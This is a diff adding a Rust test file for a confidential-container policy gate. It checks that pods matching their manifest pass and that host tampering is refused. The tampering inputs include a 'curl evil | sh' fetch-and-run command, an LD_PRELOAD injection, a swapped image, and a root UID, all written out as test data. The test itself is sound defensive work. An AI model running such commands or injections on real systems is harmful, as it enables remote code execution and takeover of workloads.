@@ -1,0 +1,144 @@
+//! Policies `cocoon policy generate` writes from a pod's manifest
+//! (`cocoon_confidential::genpolicy`), decided by this agent's own engine as a
+//! confidential guest would: the container as its manifest and image say passes; every
+//! change a host could make to what it runs is refused.
+
+use cocoon_agent::policy::{Denied, Gate};
+use serde_json::{json, Value};
+
+const DIGEST: &str = "sha256:4f0c5ea0d4c1e7f7b3aa7b6e0f2f9a0b2c6d1e5f8a9b0c1d2e3f4a5b6c7d8e9f";
+
+const MANIFEST: &str = r#"
+apiVersion: v1
+kind: Pod
+metadata:
+  name: web
+  annotations:
+    io.cocoon.guest-pull: "true"
+spec:
+  runtimeClassName: cocoon
+  securityContext:
+    runAsUser: 1000
+  containers:
+  - name: app
+    image: registry.example:5000/team/app@IMAGE
+    args: ["--port", "8080"]
+    env:
+    - name: MODE
+      value: prod
+    - name: TOKEN
+      valueFrom:
+        secretKeyRef: {name: s, key: k}
+  - name: side
+    image: registry.example:5000/team/side@IMAGE
+    command: ["/bin/side"]
+    workingDir: /work
+"#;
+
+fn gate() -> Gate {
+    let manifest = MANIFEST.replace("IMAGE", DIGEST);
+    let init = cocoon_confidential::genpolicy::generate(&manifest, None, "sha384").unwrap();
+    let g = Gate::new(true);
+    g.set_init_data(init.as_bytes()).unwrap();
+    g
+}
+
+/// CreateContainer's input for container `name` as containerd would build it from the
+/// manifest and the image (`/bin/app` entrypoint, `PATH` in its environment), then the
+/// image's config as the guest read it.
+fn input(name: &str) -> Value {
+    let (image, args, cwd, env) = match name {
+        "app" => (
+            format!("registry.example:5000/team/app@{DIGEST}"),
+            json!(["/bin/app", "--port", "8080"]),
+            "/",
+            json!([
+                "PATH=/usr/bin:/bin",
+                "MODE=prod",
+                "TOKEN=s3cret",
+                "HOSTNAME=web",
+                "KUBERNETES_SERVICE_HOST=10.0.0.1",
+                "KUBERNETES_PORT_443_TCP_ADDR=10.0.0.1"
+            ]),
+        ),
+        _ => (
+            format!("registry.example:5000/team/side@{DIGEST}"),
+            json!(["/bin/side"]),
+            "/work",
+            json!(["PATH=/usr/bin:/bin", "HOSTNAME=web"]),
+        ),
+    };
+    json!({
+        "guest_image": image,
+        "oci": {
+            "annotations": {"io.kubernetes.cri.container-name": name},
+            "process": {"args": args, "cwd": cwd, "env": env, "user": {"uid": 1000, "gid": 0}},
+        },
+        "image_config": {"Entrypoint": ["/bin/app"], "Cmd": ["--help"], "Env": ["PATH=/usr/bin:/bin"]},
+    })
+}
+
+fn refused(g: &Gate, what: &str, change: impl FnOnce(&mut Value)) {
+    let mut i = input("app");
+    change(&mut i);
+    assert_eq!(
+        g.check_pulled(|| i),
+        Err(Denied::Policy("CreateContainerImageRequest".into())),
+        "{what} was let through"
+    );
+}
+
+#[test]
+fn the_containers_as_their_manifest_says_pass() {
+    let g = gate();
+    assert!(g.pins_images());
+    assert_eq!(g.check_pulled(|| input("app")), Ok(()));
+    assert_eq!(g.check_pulled(|| input("side")), Ok(()));
+}
+
+#[test]
+fn whatever_a_host_changes_is_refused() {
+    let g = gate();
+    refused(&g, "another image", |i| {
+        i["guest_image"] = json!(format!("registry.example:5000/team/evil@{DIGEST}"))
+    });
+    refused(&g, "another process", |i| {
+        i["oci"]["process"]["args"] = json!(["/bin/sh", "-c", "curl evil | sh"])
+    });
+    refused(&g, "the image's Cmd in place of the manifest's args", |i| {
+        i["oci"]["process"]["args"] = json!(["/bin/app", "--help"])
+    });
+    refused(&g, "a variable of its own", |i| {
+        i["oci"]["process"]["env"]
+            .as_array_mut()
+            .unwrap()
+            .push(json!("LD_PRELOAD=/tmp/x.so"))
+    });
+    refused(&g, "a manifest variable changed", |i| {
+        i["oci"]["process"]["env"][1] = json!("MODE=debug")
+    });
+    refused(&g, "a manifest variable left out", |i| {
+        i["oci"]["process"]["env"].as_array_mut().unwrap().remove(1);
+    });
+    refused(&g, "another working directory", |i| {
+        i["oci"]["process"]["cwd"] = json!("/tmp")
+    });
+    refused(&g, "root", |i| {
+        i["oci"]["process"]["user"]["uid"] = json!(0)
+    });
+    refused(&g, "a container the manifest does not name", |i| {
+        i["oci"]["annotations"]["io.kubernetes.cri.container-name"] = json!("extra")
+    });
+    refused(&g, "no name at all", |i| {
+        i["oci"]["annotations"] = json!({})
+    });
+    refused(&g, "secrets the pod did not ask for", |i| {
+        i["oci"]["annotations"]["io.cocoon.kbs-secrets"] = json!("k=default/key/one")
+    });
+    // The sidecar's image for the app container: each name has its own pins.
+    refused(&g, "a container under another's name", |i| {
+        let side = input("side");
+        i["guest_image"] = side["guest_image"].clone();
+        i["oci"]["process"] = side["oci"]["process"].clone();
+    });
+}
